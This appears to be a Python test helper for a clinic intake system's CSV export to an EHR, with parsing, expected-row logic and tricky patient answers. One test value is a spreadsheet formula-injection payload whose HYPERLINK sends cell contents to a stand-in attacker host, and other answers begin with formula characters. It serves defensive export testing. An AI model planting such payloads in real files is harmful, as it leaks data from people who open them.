"""Exported CSV files read back the way an EHR import would (the csv module), and test data."""

import csv
import io
from datetime import UTC
from zoneinfo import ZoneInfo

from intake import questionnaire
from intake.ehr.columns import IDENTITY_QUESTIONS
from intake.models import Submission

HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'

# Free text a patient could type: quotes, commas, line breaks, non-Latin scripts and cells a
# spreadsheet would run as formulas. A few (a leading tab or line break, a CR) the tablet would
# have cleaned away, but the export must write whatever is stored.
TRICKY_ANSWERS = {
    "first_name": "王",
    "last_name": "فاطمة",
    "email": "-wang@example.org",
    "address": 'Flat 2, "The Old Mill"\n12 River Road\r\nSpringfield, IL',
    "emergency_contact_name": "Ольга Иванова-Núñez",
    "physician": "\tDr. Tab",
    "visit_reason": HOSTILE,
    "pain_areas": ["other", "lower_back"],
    "pain_areas_other": "+1 big toe",
    "better_with": "@SUM(A1:A9)",
    "worse_with": '-stairs, "quoted", and commas',
    "medications": "'apostrophe first",
    "diabetes": "yes",
    "diabetes_controlled": "no",
    "pregnant": "no",
    "anything_else": "\nstarts with a line break 🙂",
}

BOM = b"\xef\xbb\xbf"
CLINIC_ZONE = ZoneInfo("America/Chicago")  # INTAKE_TIMEZONE in tests/conftest.py


def parse(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
    """The header and the rows of an exported file (a byte-order mark is allowed and skipped)."""
    text = data.removeprefix(BOM).decode("utf-8")
    reader = csv.reader(io.StringIO(text, newline=""), strict=True)
    header = next(reader)
    return header, [dict(zip(header, row, strict=True)) for row in reader]


def unneutralise(cell: str) -> str:
    """The documented way back from a spreadsheet-safe text cell to what was typed."""
    return cell[1:] if cell.startswith("'") else cell


def expected_row(submission: Submission, pdf_sha256: str = "") -> dict[str, str]:
    """What the data dictionary says a raw row holds for this submission, worked out here."""
    answers = submission.answers
    red = {code for code, flag in questionnaire.FLAGS.items() if flag.severity == "red_flag"}
    utc = submission.submitted_at.astimezone(UTC)
    local = submission.submitted_at.astimezone(CLINIC_ZONE)
    signed_utc = submission.signed_at.astimezone(UTC)
    signed_local = submission.signed_at.astimezone(CLINIC_ZONE)
    row = {
        "submission_id": str(submission.public_id),
        "submitted_at_utc": utc.strftime("%Y-%m-%dT%H:%M:%S+00:00"),
        "submitted_at_local": _with_offset(local),
        "first_name": submission.first_name,
        "last_name": submission.last_name,
        "date_of_birth": submission.date_of_birth.strftime("%Y-%m-%d"),
        "phone": submission.phone,
        "email": submission.email or "",
        "consent_document": submission.consent_document,
        "consent_version": submission.consent_version,
        "consent_sha256": submission.consent_sha256,
        "signed_at_utc": signed_utc.strftime("%Y-%m-%dT%H:%M:%S+00:00"),
        "signed_at_local": _with_offset(signed_local),
        "signer_name": submission.signer_name,
        "signer_relationship": submission.signer_relationship,
        "flags": ";".join(code for code in submission.flags if code not in red),
        "pdf_sha256": pdf_sha256,
        "questionnaire_version": submission.questionnaire_version,
        "corrects_submission_id": "",
        "red_flags": ";".join(code for code in submission.flags if code in red),
        "guardian_phone": submission.guardian_phone or "",
        # As the submission's own columns say it now (the export reads the decisions).
        "consent_state": submission.consent_state,
        "consent_confirmed_at_utc": (
            submission.consent_confirmed_at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S+00:00")
            if submission.consent_confirmed_at
            else ""
        ),
        "language": submission.language,
    }
    for question in questionnaire.QUESTIONS:
        if question.id in IDENTITY_QUESTIONS:
            continue
        value = answers.get(question.id)
        if not questionnaire.is_shown(question, answers) or value is None:
            row[question.id] = ""
        elif isinstance(value, list):
            order = question.choice_values
            row[question.id] = ";".join(sorted(value, key=order.index))
        else:
            row[question.id] = str(value)
    # The LEFS's total: the sum of its 20 items, when it was asked.
    items = [answers.get(f"lefs_{number:02d}") for number in range(1, 21)]
    row["lefs_total"] = "" if None in items else str(sum(int(item) for item in items))
    return row


def _with_offset(moment) -> str:
    offset = moment.strftime("%z")  # e.g. -0600
    return moment.strftime("%Y-%m-%dT%H:%M:%S") + offset[:3] + ":" + offset[3:]
